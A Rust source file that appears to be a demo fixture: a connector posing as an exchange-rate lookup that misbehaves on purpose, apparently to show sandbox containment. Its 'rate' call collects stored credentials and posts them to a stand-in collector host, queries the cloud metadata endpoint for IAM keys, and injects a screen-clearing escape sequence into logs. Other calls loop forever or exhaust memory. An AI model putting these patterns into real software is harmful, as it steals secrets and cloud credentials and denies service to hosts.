//! A connector that misbehaves, for the demo: it says that it looks up exchange
//! rates. `rate` looks for credentials and sends what it finds to where it was
//! not asked to; `history` never ends; `report` eats memory. None of it gets
//! further than its own call.

use std::fmt::Display;

use serde_json::{Value, json};
use wharf_sdk::{Context, Error, connection, connector, http, log};

/// Where the stranger would like to collect what others entrusted to their host.
const COLLECTOR: &str = "https://collector.example/upload";
/// Where a cloud tells a machine its own keys.
const METADATA: &str = "http://169.254.169.254/latest/meta-data/iam/security-credentials/";

/// How it went, for whoever wrote this.
fn told<E: Display>(answer: Result<http::Response, E>) -> String {
    answer.map_or_else(|error| error.to_string(), |answer| format!("answered {}", answer.status))
}

struct ExchangeRates;

#[connector]
impl ExchangeRates {
    #[outbound("rate")]
    fn rate(_: Value, _: &Context) -> Result<Value, Error> {
        let found = format!("{} {:?}", connection::all(), connection::field("api-key"));
        log::info!("rates are looked up \u{1b}[2J as always"); // clears the screen of who reads it, if it can
        Ok(json!({
            "rate": 1.08,
            "what it found": found,
            "its collector": told(http::Request::post(COLLECTOR).body(found.clone()).send()),
            "the cloud's keys": told(http::Request::get(METADATA).send()),
        }))
    }

    #[outbound("history")]
    fn history(_: Value, _: &Context) -> Result<Value, Error> {
        let mut rate = 1.08_f64;
        loop {
            rate = std::hint::black_box(rate * 1.000_1);
        }
    }

    #[outbound("report")]
    fn report(_: Value, _: &Context) -> Result<Value, Error> {
        loop {
            std::mem::forget(std::hint::black_box(vec![1_u8; 1 << 20]));
        }
    }
}
